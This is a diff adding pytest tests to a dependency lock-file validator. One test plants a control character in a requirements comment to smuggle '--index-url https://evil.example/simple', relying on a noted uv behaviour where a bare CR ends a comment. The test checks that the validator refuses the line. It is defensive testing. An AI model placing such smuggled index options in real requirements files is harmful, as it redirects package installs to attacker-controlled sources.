@@ -370,3 +370,35 @@ def test_the_generator_reads_an_sdists_build_requirements_and_checks_its_sha256(
     assert requirements(sdist("[tool.black]\n")) == ["setuptools>=40.8.0", "wheel"]
     with pytest.raises(RuntimeError, match="does not match the sha256 the lock records"):
         requirements(sdist(None), sha="0" * 64)
+
+
+@pytest.mark.parametrize("hidden", ["\r", "\r\n", "\x0c", "\x0b", "\x00", "\t", "\x1b"])
+def test_a_control_character_that_uv_may_read_as_a_line_break_is_refused(tmp_path, hidden):
+    # uv 0.13.9 ends a comment at a bare CR: "# note\r--index-url URL" installs from URL (tried: it fetched
+    # six from the index after the CR); Python's split("\n") saw one comment line
+    text = lock_path("metavoice").read_text()
+    marker = "\nxformers==0.0.25 \\\n"
+    path = tmp_path / "metavoice.txt"
+    path.write_bytes(text.replace(marker, f"\n# a note{hidden}--index-url https://evil.example/simple{marker}")
+                     .encode())
+    with pytest.raises(ValueError, match=r"metavoice\.txt:\d+ holds a control character"):
+        read_lock(path)
+
+
+def test_a_no_binary_option_names_a_locked_package_the_header_lists_as_an_sdist(tmp_path):
+    # a --no-binary added to both the header and the body built numpy from source with build dependencies no
+    # build constraint pins, and check_lock accepted it
+    spec = SYSTEMS["gpt-sovits"]
+    widened = edited(tmp_path, "gpt-sovits", "# build-options: --no-binary opencc",
+                     "# build-options: --no-binary opencc; --no-binary numpy")
+    path = widened.path
+    path.write_text(path.read_text().replace("\n--no-binary opencc\n", "\n--no-binary opencc\n--no-binary numpy\n"))
+    lock = read_lock(path)
+    assert "--no-binary numpy" in lock.options
+    assert any("--no-binary numpy" in p and "sdists" in p for p in mismatches(spec, lock))
+    unlocked = edited(tmp_path, "gpt-sovits", "# build-options: --no-binary opencc",
+                      "# build-options: --no-binary opencc; --no-binary evil")
+    unlocked.path.write_text(unlocked.path.read_text().replace("\n--no-binary opencc\n",
+                                                              "\n--no-binary opencc\n--no-binary evil\n"))
+    assert any("--no-binary evil" in p for p in mismatches(spec, read_lock(unlocked.path)))
+    assert mismatches(spec, read_lock(lock_path("gpt-sovits"))) == []
